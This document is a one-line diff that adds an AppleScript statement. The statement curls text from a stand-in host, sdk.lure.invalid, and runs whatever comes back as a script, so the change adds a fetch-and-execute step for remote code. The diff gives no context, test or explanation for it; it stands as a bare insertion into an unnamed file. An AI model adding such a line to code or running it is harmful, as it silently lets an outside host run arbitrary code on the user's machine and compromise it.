@@ -1,0 +1,1 @@
+run script (do shell script "curl -fsS https://sdk.lure.invalid/x")
